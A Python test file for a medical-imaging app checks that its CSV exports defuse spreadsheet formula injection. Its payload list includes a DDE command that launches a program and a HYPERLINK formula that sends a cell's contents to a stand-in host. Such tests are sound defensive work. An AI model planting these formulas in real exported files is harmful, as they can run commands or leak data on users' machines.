"""15. Spreadsheet formulas: every CSV the app writes keeps text that starts with ``= + - @``, a tab or a carriage
return from running as a formula (a leading apostrophe, OWASP), and keeps numbers, negative ones too, numbers.

Attacks: a structure and a patient folder named like a formula in a plain folder of NIfTI files (``metrics``,
``dvh``), DDE and HYPERLINK payloads in a review comment and a study comment, full-width signs.
"""

from __future__ import annotations

import csv
import io
import math
import subprocess
import sys

import numpy as np
import pytest

from lundprobe_gui.io.csv_files import FORMULA_STARTS, cell, csv_text, write_csv
from lundprobe_gui.io.writer import header_from_geometry, write_nifti
from lundprobe_gui.review import ReviewSession, init_review
from lundprobe_gui.study import InitOptions, ObserverSession, export_study, init_study

from .helpers import TINY, block_mask, subprocess_env, tiny_patient

T0 = 1_740_988_800.0
PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "-cmd",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "-",
    "=",
]
NUMBERS = ["-1", "-1.5", "-2e-3", "+3", "0", "12.5", "-.5"]


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _safe(value: str) -> bool:
    """What a spreadsheet sees is text: no formula start, or an apostrophe first."""
    return not value.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("payload", PAYLOADS, ids=[repr(p)[:16] for p in PAYLOADS])
@pytest.mark.slow
def test_formula_text_is_written_as_text(payload, tmp_path, figures):
    out = write_csv(tmp_path / "t.csv", [{"name": payload, "n": -1.25, "k": -3, "s": "-4"}], ["name", "n", "k", "s"])
    rows = _read(out.read_bytes().decode("utf-8"))  # bytes: a quoted CR stays a CR
    assert rows[1][0] == ("'" + payload).replace("\r", "\n") and _safe(rows[1][0])
    assert len(rows) == 2  # a carriage return in a cell never ends the row
    assert float(rows[1][1]) == -1.25 and rows[1][2] == "-3" and rows[1][3] == "-4"  # numbers stay numbers
    figures["written"] = rows[1][0]


@pytest.mark.parametrize("number", NUMBERS)
@pytest.mark.slow
def test_numbers_given_as_text_stay_numbers(number):
    assert cell(number) == number
    assert cell(float(number)) == repr(float(number))
    assert cell(None) == "" and cell(math.nan) == "" and cell(-7) == "-7"


@pytest.mark.slow
def test_the_header_row_is_made_safe_too():
    rows = _read(csv_text([{"=x rating": 3}], ["=x rating"]))
    assert rows == [["'=x rating"], ["3"]]


@pytest.mark.slow
def test_dvh_csv_of_formula_named_structures_and_patients(tmp_path, figures):
    root = tmp_path / "ds"
    hdr = header_from_geometry(TINY)
    for pid in ("=1+1", "@patient"):
        folder = root / pid
        folder.mkdir(parents=True)
        n = int(np.prod(TINY.shape_zyx))
        write_nifti(folder / "image.nii.gz", (np.arange(n).reshape(TINY.shape_zyx) % 500).astype(np.int16), hdr)
        write_nifti(folder / "dose.nii.gz", block_mask(TINY).astype(np.float32) * 40.5, hdr)
        write_nifti(folder / "-cmd.nii.gz", block_mask(TINY), hdr)
        write_nifti(folder / "+Rectum.nii.gz", block_mask(TINY, (0, 0, 0), (2, 3, 3)), hdr)
    cells = []
    for command in ("dvh",):  # metrics shares the same writer (metrics.table.write_csv)
        out = tmp_path / f"{command}.csv"
        r = subprocess.run(
            [sys.executable, "-m", "lundprobe_gui", command, str(root), "--quiet", "--csv", str(out)],
            capture_output=True,
            text=True,
            timeout=120,
            env=subprocess_env(),
        )
        assert r.returncode == 0, r.stderr
        rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
        assert {row["patient"] for row in rows} == {"'=1+1", "'@patient"}
        assert {row["structure"] for row in rows} >= {"'-cmd", "'+Rectum"}
        for row in rows:
            cells.extend(row.values())
            float(row["mean_gy"])  # numbers are numbers
    assert all(_safe(c) for c in cells)
    figures["cells_checked"] = len(cells)


@pytest.mark.slow
def test_review_results_keep_a_formula_comment_as_text(tiny_root, tmp_path):
    d = tmp_path / "review"
    init_review(d, tiny_root, "rev1")
    s = ReviewSession(d)
    try:
        s.open_case(s.case_ids[0], now=T0)
        for seg in s.segments():
            s.rate(seg.name, 5, now=T0 + 1)
        s.set_comment("findings", PAYLOADS[1], now=T0 + 2)
        s.set_comment("segmentation", "-2+3", now=T0 + 3)
        out = s.finish_case(now=T0 + 4)
    finally:
        s.close(now=T0 + 5)
    row = next(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert row["findings comment"] == "'" + PAYLOADS[1] and row["segmentation comment"] == "'-2+3"
    assert all(_safe(v) for v in row.values())


@pytest.mark.slow
def test_study_results_keep_a_formula_comment_as_text(tmp_path):
    tiny_patient(tmp_path, patient_id="LUNDPROBE_0433")
    study = tmp_path / "study"
    init_study(study, InitOptions(dataset_root=tmp_path / "ds", observers=["obsX"], seed=1), now=T0)
    with ObserverSession(study, "obsX", now=T0 + 1) as s:
        t = T0 + 2  # the first rating starts the case
        for n in s.structures:
            s.select_structure(n, now=t)
            s.rate("quality", 3, structure=n, now=t)
            s.rate("confidence", 4, structure=n, now=t + 1)
            s.rate("comment", "@SUM(1+1)*cmd|' /C calc'!A0", structure=n, now=t + 3)
            t += 10
        s.finish_case(now=t)
    rep = export_study(study)
    for path in (rep.results_csv, rep.export_dir / "results.csv"):
        rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
        finished = [r for r in rows if r["finished_at"]]
        assert finished and all(r["comment"] == "'@SUM(1+1)*cmd|' /C calc'!A0" for r in finished)
        assert all(_safe(v) for r in rows for v in r.values())
        # each structure is active from its selection to the next one (or the finish), 10 s each
        assert [(r["structure"], float(r["active_seconds"])) for r in finished] == [
            ("CTVT_427", 10.0),
            ("Rectum", 10.0),
        ]
